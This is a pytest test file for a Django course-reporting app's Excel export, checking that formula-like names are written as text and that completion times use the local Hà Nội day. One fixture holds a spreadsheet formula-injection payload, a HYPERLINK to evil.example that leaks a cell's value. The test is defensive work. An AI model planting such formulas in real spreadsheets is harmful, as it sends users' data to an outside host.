from __future__ import annotations

import datetime as dt
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from learning import services
from learning.models import Course, Enrollment
from learning.tests.factories import due_in, make_course

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&B3,"Xem")'


def test_report_export_writes_formula_like_names_and_titles_as_text(world, client_for):
    course = make_course(code="FX", lessons=1)
    Course.objects.filter(pk=course.pk).update(title="=1+1")
    officer = world.officers["officer"]
    type(officer).objects.filter(pk=officer.pk).update(full_name=HOSTILE)
    services.assignment_create(course=course, unit=world.units["P"], due_date=due_in(3))
    export = client_for("unit_manager").get(reverse("learning:report-export") + f"?course={course.pk}")
    book = load_workbook(io.BytesIO(export.content))
    title = book["Tổng hợp"]["B2"]
    assert (title.value, title.data_type) == ("=1+1", "s")
    names = [row[0] for row in book["Chi tiết cán bộ"].iter_rows(min_row=2)]
    hostile = next(cell for cell in names if cell.value == HOSTILE)
    assert hostile.data_type == "s" and hostile.quotePrefix
    assert book["Chi tiết cán bộ"].freeze_panes == "A2"


def test_report_export_shows_a_completion_at_0130_on_its_local_day(world, client_for, settings):
    settings.TIME_ZONE = "Asia/Ho_Chi_Minh"
    course = make_course(code="TZ", lessons=1)
    services.assignment_create(course=course, unit=world.units["P"], due_date=due_in(3))
    completed = dt.datetime(2026, 3, 1, 18, 30, tzinfo=dt.UTC)  # 01:30 on 2 March in Hà Nội
    Enrollment.objects.filter(course=course, officer=world.officers["officer"]).update(
        started_at=completed, completed_at=completed)
    export = client_for("unit_manager").get(reverse("learning:report-export") + f"?course={course.pk}")
    sheet = load_workbook(io.BytesIO(export.content))["Chi tiết cán bộ"]
    header = [cell.value for cell in sheet[1]]
    row = next(row for row in sheet.iter_rows(min_row=2, values_only=True) if row[1] == world.officers["officer"].email)
    assert row[header.index("Hoàn thành")] == dt.datetime(2026, 3, 2, 1, 30)
